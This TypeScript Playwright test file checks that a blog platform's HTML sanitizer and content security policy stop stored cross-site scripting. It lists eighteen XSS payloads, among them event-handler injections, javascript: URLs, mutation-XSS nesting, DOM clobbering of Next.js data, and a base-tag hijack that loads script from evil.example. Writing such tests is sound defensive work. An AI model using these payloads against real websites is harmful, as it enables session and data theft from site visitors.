import type { Page } from '@playwright/test';
import { pageHtml } from '@/lib/blog/body/page-html';
import { readSource } from '@/lib/blog/testing/read-source';
import { parseEnvironment } from '@/lib/platform/env';
import { documentPolicy } from '@/lib/platform/next/document/finalize';
import { parseDocument } from '@/lib/platform/next/document/html';
import { expect, test } from './support/test';

const call = 'xss()';

/** An attacker's stored texts: each calls `xss()`, adds to Next's data or loads from evil.example unless prevented. */
const payloads: string[] = [
  `<script>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script>self.__next_f.push([1,"rows of a stranger"])</script>`,
  `</article></main><script>self.__next_f.push([1,"rows of a stranger"])</script><!--`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<a href="&#106;&#97;vascript&colon;${call}">a</a>`,
  `<a href="#" onmouseover="${call}" onfocus="${call}" autofocus tabindex="0">a</a>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<form action="javascript:${call}"><button>a</button></form>`,
  `<div style="animation-name:x" onanimationstart="${call}">a</div><style>@keyframes x{}</style>`,
  `<base href="https://evil.example/"><script src="x.js"></script>`,
  `<template shadowrootmode="open"><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `</article></main><script>${call}</script>`,
  `<p id="__next_f"></p><form name="__next_f"></form><img name="currentScript" src=x onerror=${call}>`,
];

// Allow all errors, because the browser reports each blocked script as an error.
test.use({ allowedErrors: [/./] });

const head = '<head><title>Article</title></head>';
const article = (text: string) =>
  `<!doctype html><html lang="en">${head}<body><main><article>${text}</article></main></body></html>`;

/** Opens `text` as an article and clicks every link. Returns what ran or was requested from another site. */
async function openArticle(page: Page, text: string, policy: string | null): Promise<string[]> {
  const ran: string[] = [];
  await page.unrouteAll();
  await page.route('**/*', (route) => {
    const url = new URL(route.request().url());
    if (url.hostname === 'evil.example') ran.push(`requested ${url.pathname}`);
    if (url.pathname !== '/article') return route.fulfill({ status: 404, body: '' });
    const headers: Record<string, string> = policy ? { 'content-security-policy': policy } : {};
    return route.fulfill({ body: article(text), headers, contentType: 'text/html' });
  });
  await page.goto('/article');
  const didRun = page.evaluate(async () => {
    for (const link of document.querySelectorAll<HTMLElement>('a, button')) {
      if (!link.hasAttribute('target'))
        link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    }
    // Wait two frames, because an animation in `text` starts only then.
    for (const _ of [1, 2]) await new Promise(requestAnimationFrame);
    return 'didRun' in window;
  });
  if (await didRun.catch(ignoreNavigation)) ran.push('ran');
  return ran;
}

/** Returns false if a click has opened another page, which ends the script of `evaluate`. Throws any other error. */
function ignoreNavigation(error: Error) {
  if (!/context was destroyed/.test(error.message)) throw error;
  return false;
}

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    const xss = () => Object.assign(window, { didRun: true });
    // A row that is pushed to `__next_f` counts as a call of `xss()`, because React would render the row.
    Object.assign(window, { xss, __next_f: { push: xss } });
  });
});

test('sanitized articles run nothing, even without a CSP', async ({ page }) => {
  const cleaned = payloads.map((payload) =>
    pageHtml(readSource(`<p>Before</p>${payload}<p>After</p>`).nodes),
  );
  expect(await openArticle(page, cleaned.join('\n'), null)).toEqual([]);
  // All the “Before” texts are on the page, so no payload has hidden the payloads after it.
  await expect(page.getByText('Before', { exact: true })).toHaveCount(payloads.length);
});

test('without the sanitizer the CSP stops every script', async ({ page }) => {
  expect(await openArticle(page, payloads[0] ?? '', null)).toEqual(['ran']);
  for (const payload of payloads) {
    const policy = documentPolicy(parseDocument(article(payload)), parseEnvironment({}));
    expect(await openArticle(page, payload, policy), payload).toEqual([]);
  }
});
